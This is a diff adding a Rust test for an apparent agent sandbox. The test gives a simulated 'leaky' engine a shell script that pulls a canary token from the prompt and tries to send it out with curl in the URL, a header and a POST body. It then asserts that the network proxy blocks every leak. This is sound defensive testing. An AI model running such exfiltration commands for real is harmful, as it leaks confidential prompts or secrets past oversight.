@@ -243,6 +243,27 @@ fn private_hosts_other_names_and_ambiguous_ones_are_refused() {
     assert_eq!(registry.asked(), ["GET /x"]);
 }
 
+// Holds P1-49.
+#[test]
+fn text_of_the_prompt_that_must_not_leave_does_not_leave_a_jail() {
+    let registry = Registry::start();
+    let url = registry.url("/");
+    let script = format!(
+        "c=$(grep -o 'CANARY-[0-9a-f]*' | head -n 1); test -n \"$c\" || exit 1; \
+         curl -sS {url}$c; curl -sS {url}x; curl -sS -H \"x: $c\" {url}x; curl -sS -d \"$c\" {url}x"
+    );
+    let engine = format!("[engine.leaky]\ncommand = [\"sh\", \"-c\", '''{script}''']\nformat = \"text\"\n");
+    let host = registry.host(&format!(
+        "{engine}[agent.leaky]\nengine = \"leaky\"\n[agent.leaky.network]\nmode = \"proxy\"\n\
+         allow = [\"{ADDRESS}:{} send\"]\n",
+        registry.port
+    ));
+    let said = host.ctl(&["chat", "--agent", "leaky", "-m", "hello"]);
+    let said = String::from_utf8_lossy(&said.stdout).into_owned();
+    assert_eq!(said.matches("must not leave").count(), 3, "{said}\n{}", host.log());
+    assert!(said.contains("here") && registry.asked() == ["GET /x"], "{said} {:?}", registry.asked());
+}
+
 // Holds P1-48.
 #[test]
 fn a_jail_without_a_way_out_has_no_proxy_and_no_variables_of_one() {
